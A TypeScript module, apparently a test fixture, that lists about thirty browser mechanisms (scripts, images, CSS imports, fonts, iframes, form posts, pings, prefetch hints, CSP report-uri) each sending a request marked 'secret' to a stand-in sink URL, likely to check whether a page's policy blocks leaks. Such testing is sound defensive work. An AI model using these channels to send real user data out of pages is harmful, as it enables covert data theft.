import type { Channels } from './requests';

function linkOf(sink: string, rel: string): void {
  const link = Object.assign(document.createElement('link'), { rel });
  link.href = `${sink}/secret.js`;
  document.head.append(link);
}

/** Elements and style sheets that load something from `sink`. */
export const ELEMENTS: Channels = {
  img: (sink) => {
    new Image().src = `${sink}/secret.png`;
  },
  'img srcset': (sink) => {
    const image = document.createElement('img');
    image.srcset = `${sink}/secret.png 1x`;
    document.body.append(image);
  },
  'input type=image': (sink) => {
    const input = Object.assign(document.createElement('input'), { type: 'image' });
    input.src = `${sink}/secret.png`;
    document.body.append(input);
  },
  'image in SVG': (sink) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${sink}/secret.png`);
    svg.append(image);
    document.body.append(svg);
  },
  'filter of SVG': (sink) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const filter = document.createElementNS('http://www.w3.org/2000/svg', 'filter');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'feImage');
    image.setAttribute('href', `${sink}/secret.png`);
    filter.append(image);
    svg.append(filter);
    document.body.append(svg);
  },
  script: (sink) => {
    const script = document.createElement('script');
    script.src = `${sink}/secret.js`;
    document.head.append(script);
  },
  'module script': (sink) => {
    const script = Object.assign(document.createElement('script'), { type: 'module' });
    script.src = `${sink}/secret.js`;
    document.head.append(script);
  },
  'script inside the page that fetches': (sink) => {
    const script = document.createElement('script');
    script.text = `fetch('${sink}/?secret')`;
    document.head.append(script);
  },
  'attribute onerror that fetches': (sink) => {
    const image = document.createElement('img');
    image.setAttribute('onerror', `fetch('${sink}/?secret')`);
    image.src = 'data:,';
    document.body.append(image);
  },
  'text that becomes HTML': (sink) => {
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = `<img src="${sink}/secret.png">`;
  },
  'style sheet': (sink) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
    link.href = `${sink}/secret.css`;
    document.head.append(link);
  },
  '@import': (sink) => {
    const style = document.createElement('style');
    style.textContent = `@import url('${sink}/secret.css');`;
    document.head.append(style);
  },
  '@font-face': (sink) => {
    const style = document.createElement('style');
    style.textContent = `@font-face { font-family: secret; src: url('${sink}/secret.woff2'); }`;
    const text = document.createElement('p');
    text.style.fontFamily = 'secret';
    text.textContent = 'secret';
    document.head.append(style);
    document.body.append(text);
  },
  'url() in a style sheet of script': (sink) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url('${sink}/secret.png') }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'url() of an element': (sink) => {
    const place = document.body.appendChild(document.createElement('div'));
    place.style.cssText = `width: 9px; height: 9px; background-image: url('${sink}/secret.png')`;
  },
  'cursor: url()': (sink) => {
    const place = document.body.appendChild(document.createElement('div'));
    place.style.cssText = `width: 9px; height: 9px; list-style: url('${sink}/secret.png'); display: list-item`;
  },
  audio: (sink) => {
    new Audio(`${sink}/secret.mp3`).load();
  },
  video: (sink) => {
    const video = document.createElement('video');
    video.src = `${sink}/secret.mp4`;
    document.body.append(video);
    video.load();
  },
  'video poster': (sink) => {
    const video = document.createElement('video');
    video.poster = `${sink}/secret.png`;
    document.body.append(video);
  },
  track: (sink) => {
    const video = Object.assign(document.createElement('video'), { crossOrigin: 'anonymous' });
    const track = Object.assign(document.createElement('track'), { kind: 'subtitles', default: true });
    track.src = `${sink}/secret.vtt`;
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  iframe: (sink) => {
    const frame = document.createElement('iframe');
    frame.src = sink;
    document.body.append(frame);
  },
  'iframe srcdoc': (sink) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${sink}/secret.png">`;
    document.body.append(frame);
  },
  object: (sink) => {
    const object = document.createElement('object');
    object.data = `${sink}/secret.svg`;
    document.body.append(object);
  },
  embed: (sink) => {
    const embed = document.createElement('embed');
    embed.src = `${sink}/secret.svg`;
    document.body.append(embed);
  },
  'form into a frame': (sink) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'of-the-form' });
    const form = Object.assign(document.createElement('form'), { method: 'post', target: 'of-the-form' });
    form.action = sink;
    document.body.append(frame, form);
    form.submit();
  },
  'a ping': (sink) => {
    const link = document.createElement('a');
    link.href = '#ping';
    link.ping = `${sink}/?secret`;
    document.body.append(link);
    link.click();
  },
  icon: (sink) => {
    const link = Object.assign(document.createElement('link'), { rel: 'icon' });
    link.href = `${sink}/secret.png`;
    document.head.append(link);
  },
  manifest: (sink) => {
    const link = Object.assign(document.createElement('link'), { rel: 'manifest' });
    link.href = `${sink}/secret.json`;
    document.head.append(link);
  },
  'speculation rules': (sink) => {
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
    const urls = [`${sink}/?secret`];
    script.textContent = JSON.stringify({ prefetch: [{ urls, eagerness: 'immediate' }] });
    document.head.append(script);
  },
  'policy added by script that reports': (sink) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `child-src 'none'; report-uri ${sink}/?secret`;
    document.head.append(meta);
    document.body.append(Object.assign(document.createElement('iframe'), { src: '/nowhere' }));
  },
  ...Object.fromEntries(
    ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload'].map((rel) => [rel, linkOf]),
  ),
  preload: (sink) => {
    const link = Object.assign(document.createElement('link'), { rel: 'preload', as: 'image' });
    link.href = `${sink}/secret.png`;
    document.head.append(link);
  },
};
